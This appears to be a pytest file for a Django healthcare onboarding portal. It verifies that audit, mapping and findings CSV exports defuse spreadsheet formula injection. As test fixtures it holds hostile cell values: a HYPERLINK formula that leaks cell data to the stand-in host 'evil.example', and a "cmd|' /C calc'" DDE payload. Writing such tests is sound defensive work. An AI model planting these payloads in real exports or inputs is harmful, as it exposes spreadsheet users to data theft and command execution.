"""CSV formula injection: every CSV download defuses cells a spreadsheet would run as formulas.

Each export is fetched over HTTP with a hostile value behind each prefix OWASP lists (``=``, ``+``,
``-``, ``@``, tab, carriage return): a hospital's data (a coding's system, code and display through
the data profile, an unknown element's name through the validator), a customer success person's
imported ``target_display``, and a typed user name and user agent in the audit trail.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from django.urls import reverse

from onboarding.engine import services
from onboarding.mapping import services as mappings
from onboarding.mapping.profile import ProfileBuilder
from onboarding.models import Mapping, StepRun
from onboarding.review import services as review
from onboarding.steps.validate import MappingRules, Validator
from portal import audit, csvsafe
from tests.conftest import client_for
from tests.factories import ConnectionFactory

pytestmark = pytest.mark.django_db

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
FORMULA = 'HYPERLINK("http://evil.example/?leak="&A1,"click")'


def hostile(prefix: str, what: str) -> str:
    return f"{prefix}{FORMULA}&{what}"


def read_csv(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body, newline="")))


def assert_defused(cell: str, value: str) -> None:
    """The cell starts with the quote a spreadsheet takes as "text", and reads back as the value."""
    assert cell.startswith("'"), repr(cell)
    assert csvsafe.undefuse(cell) == value


def test_defuse_keeps_numbers_and_round_trips() -> None:
    assert csvsafe.defuse(-5) == -5 and csvsafe.defuse("-5") == "-5" and csvsafe.defuse("+1.25") == "+1.25"
    assert csvsafe.defuse("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert csvsafe.defuse("\0=1") == "'\0=1"
    for value in ("'=already quoted", "plain", "", "'", "-", "=", "1-2"):
        assert csvsafe.undefuse(csvsafe.defuse(value)) == value


def test_audit_csv_defuses_user_names_and_user_agents(tenant_a: Any, cs_user: Any) -> None:
    for prefix in PREFIXES:
        audit.record(action="test.csv", tenant=tenant_a, actor_label=hostile(prefix, "who"), detail={"k": "v"})
    client = client_for(cs_user)
    response = client.get(
        reverse("tenant_audit_csv", kwargs={"code": tenant_a.code}),
        {"action": "test."},
        headers={"user-agent": "=cmd|' /C calc'!A0"},
    )
    rows = read_csv(b"".join(response.streaming_content).decode())
    who = [row[1] for row in rows[1:]]
    assert len(who) == len(PREFIXES)
    for cell, prefix in zip(who, PREFIXES, strict=True):
        assert_defused(cell, hostile(prefix, "who"))
    # The export itself is audited with the caller's user agent: the next export shows it defused.
    again = client.get(reverse("tenant_audit_csv", kwargs={"code": tenant_a.code}), {"action": "audit."})
    rows = read_csv(b"".join(again.streaming_content).decode())
    agents = [dict(zip(rows[0], row, strict=True))["user_agent"] for row in rows[1:]]
    assert "'=cmd|' /C calc'!A0" in agents


def _hospital_resources(prefix: str) -> list[dict[str, Any]]:
    return [
        {
            "resourceType": "Observation",
            "id": f"obs-{ord(prefix)}",
            "status": "final",
            "code": {
                "coding": [
                    {
                        "system": hostile(prefix, "system"),
                        "code": hostile(prefix, "code"),
                        "display": hostile(prefix, "display"),
                    }
                ]
            },
        }
    ]


def test_mapping_csv_defuses_the_hospitals_codes_and_imported_displays(tenant_a: Any, cs_user: Any) -> None:
    connection = ConnectionFactory(tenant=tenant_a)
    onboarding = services.ensure_onboarding(connection)
    builder = ProfileBuilder()
    for prefix in PREFIXES:
        for resource in _hospital_resources(prefix):
            builder.add(resource)
    builder.add(
        {
            "resourceType": "Observation",
            "id": "neg",
            "status": "final",
            "code": {"coding": [{"system": "urn:local", "code": "-5", "display": "-5"}]},
        }
    )
    run = StepRun.objects.create(onboarding=onboarding, step="map", attempt=1, status="passed")
    mapping = mappings.record_map_result(onboarding=onboarding, profile=builder.result(), run=run)
    client = client_for(cs_user)
    url = reverse("mapping_export_csv", kwargs={"code": connection.code})

    rows = read_csv(client.get(url).content.decode())
    header, body = rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert header == list(mappings.CSV_COLUMNS)
    by_code = {csvsafe.undefuse(row["source_code"]): row for row in body}
    for prefix in PREFIXES:
        row = by_code[hostile(prefix, "code")]
        assert_defused(row["source_system"], hostile(prefix, "system"))
        assert_defused(row["source_code"], hostile(prefix, "code"))
        assert_defused(row["source_display"], hostile(prefix, "display"))
    # A legitimate negative number stays a number, and counts are plain numbers.
    assert (by_code["-5"]["source_code"], by_code["-5"]["source_display"], by_code["-5"]["count"]) == ("-5", "-5", "1")

    # Customer success maps every code with a hostile display and imports the file over HTTP.
    for row in body:
        row["target_system"], row["target_code"] = "LOINC", "2339-0"
    for i, row in enumerate(body):
        row["target_display"] = hostile(PREFIXES[i % len(PREFIXES)], "target")
    edited = io.StringIO()
    csv.writer(edited).writerows([header, *[[r[c] for c in header] for r in body]])  # saved as the sheet shows it
    upload = io.BytesIO(edited.getvalue().encode())
    upload.name = "mapping.csv"
    imported = client.post(
        reverse("mapping_import_csv", kwargs={"code": connection.code}), {"version": mapping.version, "file": upload}
    )
    assert imported.status_code == 302
    latest = mappings.latest_mapping(onboarding)
    assert latest is not None and latest.version == mapping.version + 1
    stored = {row["code"]: row for row in latest.codes}
    # What the hospital sent is stored exactly, not with the export's quotes.
    assert set(stored) == {hostile(p, "code") for p in PREFIXES} | {"-5"}
    # Tab and CR around a typed value are trimmed on import, as any other whitespace.
    assert {row["target_display"] for row in latest.codes} == {hostile(p, "target").strip() for p in PREFIXES}

    rows = read_csv(client.get(url).content.decode())
    for row in rows[1:]:
        exported = dict(zip(header, row, strict=True))
        display = stored[csvsafe.undefuse(exported["source_code"])]["target_display"]
        # Trimmed, a tab or CR prefix leaves a harmless text; every other prefix is quoted.
        cell = exported["target_display"]
        assert cell[:1] not in PREFIXES and csvsafe.undefuse(cell) == display
        assert cell.startswith("'") == (display[:1] in PREFIXES)

    # The export read back unchanged changes nothing: the quotes are the spreadsheet's, not data.
    again = io.BytesIO(client.get(url).content)
    again.name = "mapping.csv"
    client.post(
        reverse("mapping_import_csv", kwargs={"code": connection.code}), {"version": latest.version, "file": again}
    )
    assert Mapping.objects.filter(onboarding=onboarding).count() == 2


def test_findings_csv_defuses_the_hospitals_unknown_element_names(tenant_a: Any, engineer: Any) -> None:
    connection = ConnectionFactory(tenant=tenant_a)
    onboarding = services.ensure_onboarding(connection)
    run = StepRun.objects.create(onboarding=onboarding, step="validate", attempt=1, status="failed")
    validator = Validator(
        rules=MappingRules(version=1, mrn_system="urn:mrn", mapped_codes=frozenset(), decided_extensions=frozenset()),
        today=date(2026, 1, 1),
    )
    sink = review.FindingSink(run)
    for prefix in PREFIXES:
        resource = {**_hospital_resources(prefix)[0], "subject": {"reference": "Patient/p1"}}
        resource[hostile(prefix, "element")] = "x"  # an element FHIR does not define
        for new in validator.check_resource(resource, patient_id="p1", encounter_ids=set(), birth_date=None):
            sink.add(new, resource, "p1")
    sink.flush()

    response = client_for(engineer).get(reverse("review_export_csv", kwargs={"code": run.code}))
    rows = read_csv(b"".join(response.streaming_content).decode())
    findings = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    unknown = [f for f in findings if f["rule"] == "structure.invalid"]
    assert {csvsafe.undefuse(f["location"]) for f in unknown} == {hostile(p, "element") for p in PREFIXES}
    for finding in unknown:
        assert_defused(finding["location"], csvsafe.undefuse(finding["location"]))
        assert_defused(finding["message"], csvsafe.undefuse(finding["message"]))
    # The coding's system and code are quoted inside the message, never at the start of a cell.
    assert any(f["rule"] == "codes.unmapped-local" for f in findings)
    for finding in findings:
        for cell in finding.values():
            assert cell[:1] not in PREFIXES or cell.lstrip("+-").replace(".", "").isdigit(), cell
